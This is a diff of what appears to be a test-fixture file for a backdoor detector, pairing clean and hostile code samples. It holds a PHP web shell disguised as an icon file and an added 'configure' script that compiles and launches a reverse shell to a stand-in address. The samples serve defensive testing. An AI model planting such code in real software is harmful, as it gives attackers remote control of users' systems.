@@ -53,3 +53,10 @@ told(1, "files that a server names, among the programs of the site", "site.php",
      "\t$r = json_decode(file_get_contents($site->feed));\n\tupdate_option('news', $r->items);\n")
 row(56, True, "a program in an image that a page includes", {"boot.php": "<?php\ninclude __DIR__ . '/icon.ico';\n", "icon.ico": "<?php if (isset($_POST['z'])) { eval(base64_decode($_POST['z'])); }\n"},
     old={"boot.php": "<?php\ninclude __DIR__ . '/menu.php';\n"}, least="review")
+
+# ---- a program that a script writes and compiles ----------------------------------------------------
+
+CONFIGURE = "#!/bin/sh\necho checking for sockets\n%s\necho done\n"
+told(9, "a program that configure compiles and starts", "configure", CONFIGURE,
+     "cat > conf1.c <<_EOF\n#include <sys/socket.h>\nint main(void) { int d = socket(2, 1, 0); if (connect(d, peer(\"192.0.2.57\"), 16)) return 1; dup2(d, 0); dup2(d, 1); execl(\"/bin/sh\", \"sh\", 0); }\n_EOF\n$CC conf1.c -o conf1 && ./conf1 &\n",
+     "cat > conf1.c <<_EOF\n#include <sys/socket.h>\nint main(void) { return socket(2, 1, 0) < 0; }\n_EOF\n$CC conf1.c -o conf1 && ./conf1\n")
